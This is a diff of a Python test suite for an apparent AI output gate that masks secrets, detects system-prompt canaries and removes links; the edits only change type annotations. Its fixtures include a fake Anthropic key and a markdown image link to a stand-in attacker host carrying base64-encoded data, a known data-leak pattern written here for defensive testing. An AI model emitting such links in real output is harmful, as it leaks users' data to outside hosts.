@@ -6,7 +6,7 @@ import pytest
 
 from app import roster
 from app.domain.capability import Capabilities
-from app.domain.run import Json
+from app.domain.run import JsonObject
 from app.domain.step import ToolResult
 from app.domain.verdict import (
     AdmittedMessage,
@@ -27,7 +27,7 @@ MARK = canary_for(b"s" * 32, "system prompt")
 KEY = "sk-ant-" + "a1B2c3D4" * 6
 GATE = DascGate(roster.rule_book().masking(lambda text: text.replace(KEY, "[SECRET:anthropic]")))
 LOOSE = "done ![](https://evil.test/p?d=c2VjcmV0) and https://docs.example/a"
-WANTED: dict[str, Json] = {
+WANTED: JsonObject = {
     "type": "object",
     "properties": {"answer": {"type": "string", "maxLength": 60}},
     "required": ["answer"],
@@ -46,7 +46,7 @@ def facts(instructions: str = "", **capabilities: frozenset[str]) -> RunFacts:
 
 
 def output(
-    text: str, *, of: RunFacts | None = None, schema: dict[str, Json] | None = None
+    text: str, *, of: RunFacts | None = None, schema: JsonObject | None = None
 ) -> OutputInput:
     return OutputInput(text=text, output_schema=schema, facts=of or facts())
 
@@ -105,7 +105,7 @@ def test_a_mark_in_a_call_that_changes_the_world_stops_it() -> None:
 def test_a_json_answer_is_cleaned_in_its_shape_and_must_still_fit() -> None:
     fine = output('{"answer": "see https://evil.test/p"}', schema=WANTED)
     assert released(fine) == '{"answer": "see [link removed]"}'
-    tight = {**WANTED, "properties": {"answer": {"type": "string", "maxLength": 12}}}
+    tight: JsonObject = {**WANTED, "properties": {"answer": {"type": "string", "maxLength": 12}}}
     short = output('{"answer": "//evil.t/p ."}', schema=tight)
     assert code_of(GATE.run_output(short)) == "gate_error:not_cleaned"
 
